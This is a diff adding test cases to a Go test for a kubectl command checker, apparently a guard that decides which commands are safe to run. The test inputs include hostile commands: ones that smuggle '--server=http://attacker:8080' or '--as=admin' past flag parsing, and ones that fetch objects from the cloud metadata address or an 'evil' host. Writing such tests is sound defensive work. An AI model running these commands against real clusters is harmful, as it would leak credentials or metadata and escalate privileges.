@@ -352,6 +352,11 @@ func TestKubectl(t *testing.T) {
 		{"kubectl get pods --profile=cpu --profile-output=/etc/m", ""},
 		{"kubectl get pods --cache-dir=/ws/c", ""},
 		{"kubectl get pods --$FLAG=x", "kubectl logs \"$POD\" -n \"$NS\""},
+		// A value flag takes the next word whatever it is, `--` too.
+		{"kubectl get pods -n -- --server=http://attacker:8080", "kubectl get pods -n kube-system -- x"},
+		{"kubectl get pods --namespace -- --token=x", "kubectl get pods --namespace=-- "},
+		{"kubectl get pods -An -- -s http://attacker", "kubectl get pods -n x -A"},
+		{"kubectl --context -- get pods --as=admin", ""},
 		// Where objects are read from: a URL is fetched by the runner.
 		{"kubectl get -f http://169.254.169.254/latest/meta-data/", "kubectl get -f pod.yaml"},
 		{"kubectl describe --filename=https://evil/x.yaml", "kubectl describe -f ./manifests/"},
